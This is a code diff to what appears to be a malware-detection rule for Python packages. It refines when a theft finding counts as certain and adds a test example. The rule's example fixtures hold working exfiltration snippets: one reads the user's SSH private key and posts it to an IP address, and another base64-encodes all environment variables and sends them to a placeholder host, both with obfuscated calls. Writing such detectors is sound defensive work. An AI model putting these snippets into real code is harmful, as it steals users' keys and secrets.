@@ -106,7 +106,8 @@ def _handed_over(call: Call) -> tuple[Taint, ...]:
 
 def _finding(path: str, call: Call, what: str, taints: tuple[Taint, ...], *, sure: bool) -> Finding:
     place = destination(call)
-    fixed = sure or bool(_FIXED.match(place))
+    whole = any(t.source is Source.ENVIRON for t in taints)
+    fixed = sure or (bool(_FIXED.match(place)) and (whole or Does.SEND in call.does))
     return claim(
         _ID,
         Behaviour.THEFT,
@@ -143,6 +144,14 @@ RULE = Rule(
             files={
                 "pkg/__init__.py": "import os, urllib.request as u\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
                 "getattr(u, 'url' + 'open')('http://198.51.100.3/', data=k.encode())\n"
+            },
+        ),
+        Example(
+            title="the environment in an address, when called",
+            files={
+                "pkg/__init__.py": "import base64, os, requests as r\ndef make():\n"
+                "    d = base64.b64encode(str(dict(os.environ)).encode()).decode()\n"
+                "    getattr(r, 'g' + 'et')('https://c.example.invalid/x/' + d)\n"
             },
         ),
         Example(
